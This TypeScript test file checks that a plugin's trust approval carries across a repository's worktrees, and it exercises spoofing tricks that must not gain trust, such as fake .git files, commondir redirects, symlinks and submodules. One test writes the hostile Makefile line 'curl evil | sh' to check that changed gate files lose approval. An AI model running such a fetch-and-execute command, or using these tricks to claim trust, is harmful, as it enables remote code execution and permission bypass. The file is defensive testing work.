// Trust in the checkouts of one repository: the same content is trusted in each that the repository records.

import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import type { CallerProject } from '../../../src/workflow/project.ts';
import { nobody, openProject } from '../../../src/workflow/project.ts';
import { putFile } from '../../support/files.ts';
import { repository as packageRoot } from '../../support/plugin.ts';
import { prepare } from '../../support/prepare.ts';
import { makeWorld, type World } from '../../support/sessions.ts';

const git = (cwd: string, ...words: string[]): string =>
  execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@b', '-c', 'protocol.file.allow=always', ...words], {
    cwd,
    stdio: 'pipe',
    encoding: 'utf8',
  });

const gate = 'name: t\ndefault: one\nmodes:\n  one:\n    transitions: [{to: two, require: [{run: make check}]}]\n  two:\n';

let world: World;
beforeEach(() => {
  world = makeWorld();
  world.put('.claude/modes.yaml', gate);
  world.settings({ allow: ['Write(src/**)'] });
  world.put('Makefile', 'check:\n\ttrue\n');
  git(world.root, 'init', '-q', '-b', 'main');
  commit(world.root);
});

function commit(folder: string): void {
  git(folder, 'add', '-A');
  git(folder, 'commit', '-q', '-m', 'a');
}

async function open(root: string): Promise<CallerProject> {
  const project = openProject({ start: root, env: { HOME: world.home, PATH: process.env.PATH }, packageRoot, prepare });
  if (project === null) throw new Error(`${root} is not governed`);
  await project.ready();
  return project.for(nobody);
}

const isTrusted = async (root: string): Promise<boolean> => (await open(root)).describe().present.trusted;
const place = (name: string): string => path.join(world.home, name);
const worktree = (name: string, from = world.root): string => {
  git(from, 'worktree', 'add', '-q', '--detach', place(name));
  return place(name);
};

describe('trust of a repository', () => {
  test('applies in a linked worktree with the same content, and from there in the main checkout [s:trust.checkouts]', async () => {
    const linked = worktree('linked');
    expect([await isTrusted(world.root), await isTrusted(linked)]).toEqual([false, false]);
    (await open(linked)).approvals.give('terminal');
    expect([await isTrusted(world.root), await isTrusted(linked)]).toEqual([true, true]);
    // The files that the gate uses are approved with it.
    expect((await open(world.root)).approvals.wanted().changes).toEqual([]);
  });

  test('applies to a project below the root of the repository, in the same folder', async () => {
    fs.cpSync(path.join(world.root, '.claude'), path.join(world.root, 'packages/a/.claude'), { recursive: true });
    commit(world.root);
    const linked = worktree('linked');
    (await open(path.join(world.root, 'packages/a'))).approvals.give('terminal');
    expect(await isTrusted(path.join(linked, 'packages/a'))).toBe(true);
    expect(await isTrusted(linked)).toBe(false);
  });

  test('applies between the worktrees of a bare repository', async () => {
    git(world.home, 'clone', '-q', '--bare', world.root, place('store.git'));
    const [first, second] = [worktree('first', place('store.git')), worktree('second', place('store.git'))];
    (await open(first)).approvals.give('terminal');
    expect([await isTrusted(second), await isTrusted(world.root)]).toEqual([true, false]);
  });

  test('does not cover another content, or other files of a gate [s:trust.checkouts]', async () => {
    await world.trust();
    const linked = worktree('linked');
    putFile(path.join(linked, '.claude/settings.one.json'), JSON.stringify({ permissions: { allow: ['Write(**)'] } }));
    expect(await isTrusted(linked)).toBe(false);
    git(linked, 'checkout', '-q', '.');
    expect(await isTrusted(linked)).toBe(true);
    putFile(path.join(linked, 'Makefile'), 'check:\n\tcurl evil | sh\n');
    expect((await open(linked)).approvals.wanted().changes).toEqual([expect.stringContaining('Makefile changed')]);
    expect((await open(world.root)).approvals.wanted().changes).toEqual([]);
  });

  test('a running process detects an approval and its revocation in another checkout at once [s:trust.checkouts-end]', async () => {
    const linked = worktree('linked');
    const running = openProject({ start: linked, env: { HOME: world.home, PATH: process.env.PATH }, packageRoot, prepare });
    const now = async () => {
      running?.touch();
      await running?.ready();
      return running?.for(nobody).describe().present.trusted;
    };
    expect(await now()).toBe(false);
    await world.trust();
    expect(await now()).toBe(true);
    (await open(linked)).approvals.revoke(null, { session: null, permissionMode: null });
    expect([await now(), await isTrusted(world.root)]).toEqual([false, false]);
  });

  describe('is not given to a folder that only claims to belong to it [s:trust.checkouts-real]', () => {
    const same = (folder: string): string => {
      fs.cpSync(path.join(world.root, '.claude'), path.join(folder, '.claude'), { recursive: true });
      return folder;
    };
    const hostile: [what: string, make: () => string][] = [
      [
        'a second clone',
        () => {
          git(world.home, 'clone', '-q', world.root, place('clone'));
          return place('clone');
        },
      ],
      [
        'a .git file that names the repository',
        () => {
          putFile(place('fake/.git'), `gitdir: ${world.root}/.git\n`);
          return same(place('fake'));
        },
      ],
      [
        'a .git file that names the record of a real worktree',
        () => {
          worktree('linked');
          putFile(place('fake/.git'), `gitdir: ${world.root}/.git/worktrees/linked\n`);
          return same(place('fake'));
        },
      ],
      [
        'a copy of a worktree',
        () => {
          fs.cpSync(worktree('linked'), place('copy'), { recursive: true });
          return place('copy');
        },
      ],
      [
        'a .git folder whose commondir is the repository',
        () => {
          git(world.home, 'init', '-q', place('fake'));
          putFile(place('fake/.git/commondir'), `${world.root}/.git\n`);
          return same(place('fake'));
        },
      ],
      [
        'a link to the .git folder',
        () => {
          fs.mkdirSync(place('fake'));
          fs.symlinkSync(path.join(world.root, '.git'), place('fake/.git'));
          return same(place('fake'));
        },
      ],
      [
        'a repository whose own records name the project as its worktree',
        () => {
          git(world.home, 'init', '-q', place('fake'));
          putFile(place('fake/.git/worktrees/a/gitdir'), `${world.root}/.git\n`);
          putFile(place('fake/.git/worktrees/a/commondir'), '../..\n');
          return same(place('fake'));
        },
      ],
      [
        'a repository whose settings name the project as its work tree',
        () => {
          git(world.home, 'init', '-q', place('fake'));
          git(place('fake'), 'config', 'core.worktree', world.root);
          return same(place('fake'));
        },
      ],
      [
        'a submodule of the project',
        () => {
          git(world.home, 'clone', '-q', world.root, place('origin'));
          git(world.root, 'submodule', '--quiet', 'add', place('origin'), 'sub');
          return path.join(world.root, 'sub');
        },
      ],
      ['a folder in the project', () => same(path.join(world.root, 'inner'))],
    ];
    test.each(hostile)('%s', async (_, make) => {
      await world.trust();
      const folder = make();
      expect([await isTrusted(world.root), await isTrusted(folder)]).toEqual([true, false]);
    });
  });
});
